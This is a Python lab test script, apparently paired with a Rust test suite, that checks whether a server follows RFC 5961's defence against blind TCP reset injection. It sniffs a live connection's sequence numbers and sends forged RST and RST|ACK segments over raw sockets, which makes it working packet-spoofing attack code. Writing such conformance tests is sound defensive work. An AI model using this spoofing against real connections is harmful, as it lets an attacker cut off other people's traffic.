"""Blind reset injection (RFC 5961 3.2) against a keep-alive connection, for
tests/lab_attacks.rs.

Usage: blind_reset.py IFACE IP PORT   (IP: IPv4 or IPv6)

Run it in the lab's client namespace only. Opens a keep-alive connection to
IP:PORT and gets one answer to `GET /`; watching IFACE (AF_PACKET) it learns
the sequence number the server expects next. Then, as an off-path attacker
who guessed the window would, it sends spoofed segments with the
connection's 4-tuple and asks again on the same connection after each:

  rst-in-window      RST, sequence number 1000 past the expected one
  rstack-in-window   RST|ACK, likewise
  rst-exact          RST with exactly the expected sequence number

and prints one JSON object: for each case whether the next request on the
connection was still answered ("alive") and how many pure ACKs (challenge
ACKs) came from the server after the spoofed segment.
"""
import json
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def tcp_segment(src, dst, sport, dport, seq, ack, flags):
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    if ":" in dst:
        pseudo = (socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
                  + struct.pack("!IxxxB", len(header), 6))
    else:
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(header))
    csum = checksum(pseudo + header)
    return header[:16] + struct.pack("!H", csum) + header[18:]


def parse(frame, ip, port, cport):
    """(direction, seq, ack, flags, payload_len) of a TCP frame of our connection."""
    if len(frame) >= 74 and frame[12:14] == b"\x86\xdd" and frame[20] == 6:
        ihl, t = 0, 54
        total = struct.unpack("!H", frame[18:20])[0]
        src = socket.inet_ntop(socket.AF_INET6, frame[22:38])
        dst = socket.inet_ntop(socket.AF_INET6, frame[38:54])
    elif len(frame) >= 54 and frame[12:14] == b"\x08\x00" and frame[23] == 6:
        ihl = (frame[14] & 0x0F) * 4
        total = struct.unpack("!H", frame[16:18])[0]
        src, dst = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
        t = 14 + ihl
    else:
        return None
    sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", frame[t : t + 14])
    payload = total - ihl - (off >> 4) * 4
    if (src, sport, dport) == (ip, port, cport):
        return ("in", seq, ack, flags, payload)
    if (dst, dport, sport) == (ip, port, cport):
        return ("out", seq, ack, flags, payload)
    return None


def main():
    iface, ip, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniff.bind((iface, 0))
    sniff.settimeout(0.05)
    family = socket.AF_INET6 if ":" in ip else socket.AF_INET
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP)
    conn = socket.create_connection((ip, port), timeout=3)
    local_ip, cport = conn.getsockname()[:2]
    host = f"[{ip}]" if family == socket.AF_INET6 else ip
    request = f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    # The server's RCV.NXT (our SND.NXT) and SND.NXT (what we acknowledge).
    expect = {"rcv_nxt": None, "snd_nxt": 0}

    def drain(window):
        """Reads what IFACE saw for `window` s; counts the server's pure ACKs."""
        acks = 0
        end = time.monotonic() + window
        while time.monotonic() < end:
            try:
                frame = sniff.recv(65536)
            except socket.timeout:
                continue
            p = parse(frame, ip, port, cport)
            if p is None:
                continue
            way, seq, ack, flags, n = p
            if way == "out" and not flags & 0x04:
                expect["rcv_nxt"] = (seq + n + (1 if flags & 0x03 else 0)) & 0xFFFFFFFF
            if way == "in":
                expect["snd_nxt"] = (seq + n + (1 if flags & 0x03 else 0)) & 0xFFFFFFFF
                if flags == 0x10 and n == 0:
                    acks += 1
        return acks

    def ask():
        try:
            conn.sendall(request)
            data = conn.recv(65536)
            return data.startswith(b"HTTP/1.1 200")
        except OSError:
            return False

    result = {"first": ask()}
    drain(0.3)
    for case, flags, offset in (
        ("rst-in-window", 0x04, 1000),
        ("rstack-in-window", 0x14, 1000),
        ("rst-exact", 0x04, 0),
    ):
        drain(0.1)
        seq = (expect["rcv_nxt"] + offset) & 0xFFFFFFFF
        ack = expect["snd_nxt"] if flags & 0x10 else 0
        raw.sendto(tcp_segment(local_ip, ip, cport, port, seq, ack, flags), (ip, 0))
        challenge_acks = drain(0.3)
        result[case] = {"alive": ask(), "challenge_acks": challenge_acks}
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
